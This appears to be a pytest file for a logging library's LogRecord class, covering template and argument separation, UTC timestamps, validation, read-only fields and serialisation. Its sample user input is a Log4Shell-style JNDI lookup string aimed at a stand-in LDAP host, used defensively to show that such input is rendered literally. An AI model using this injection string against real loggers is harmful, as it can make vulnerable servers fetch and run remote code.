from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest

from lib_log_dispatch.domain import LogLevel, LogRecord
from tests.os_markers import OS_AGNOSTIC

pytestmark = [OS_AGNOSTIC]


def _record(**overrides: object) -> LogRecord:
    values: dict[str, object] = {
        "record_id": "rec-1",
        "timestamp": datetime(2025, 9, 23, 12, 0, tzinfo=timezone.utc),
        "logger_name": "tests",
        "level": LogLevel.INFO,
        "template": "User input: {}",
        "args": ["${jndi:ldap://x/a}"],
        "fields": {"user": "alice"},
    }
    values.update(overrides)
    return LogRecord(**values)  # type: ignore[arg-type]


def test_record_keeps_template_and_arguments_apart() -> None:
    record = _record()

    assert record.template == "User input: {}"
    assert record.args == ("${jndi:ldap://x/a}",)
    assert record.render() == "User input: ${jndi:ldap://x/a}"


def test_timestamp_is_normalised_to_utc() -> None:
    local = datetime(2025, 9, 23, 14, 0, tzinfo=timezone(timedelta(hours=2)))

    record = _record(timestamp=local)

    assert record.timestamp == datetime(2025, 9, 23, 12, 0, tzinfo=timezone.utc)
    assert record.timestamp.tzinfo is timezone.utc


def test_naive_timestamp_is_rejected() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        _record(timestamp=datetime(2025, 9, 23, 12, 0))


def test_empty_record_id_is_rejected() -> None:
    with pytest.raises(ValueError):
        _record(record_id="")


def test_fields_are_a_read_only_copy() -> None:
    source = {"user": "alice"}
    record = _record(fields=source)
    source["user"] = "mallory"

    assert record.fields["user"] == "alice"
    with pytest.raises(TypeError):
        record.fields["user"] = "bob"  # type: ignore[index]


def test_to_dict_serialises_every_part() -> None:
    payload = _record(fields={"attempts": 3, "ratio": float("nan"), "when": datetime(2025, 1, 1)}).to_dict()

    assert payload["message"] == "User input: ${jndi:ldap://x/a}"
    assert payload["template"] == "User input: {}"
    assert payload["args"] == ["${jndi:ldap://x/a}"]
    assert payload["level"] == "info"
    assert payload["timestamp"] == "2025-09-23T12:00:00+00:00"
    assert payload["fields"] == {"attempts": 3, "ratio": "nan", "when": "2025-01-01 00:00:00"}


def test_replace_returns_a_new_record() -> None:
    record = _record()
    updated = record.replace(level=LogLevel.ERROR)

    assert updated.level is LogLevel.ERROR
    assert record.level is LogLevel.INFO
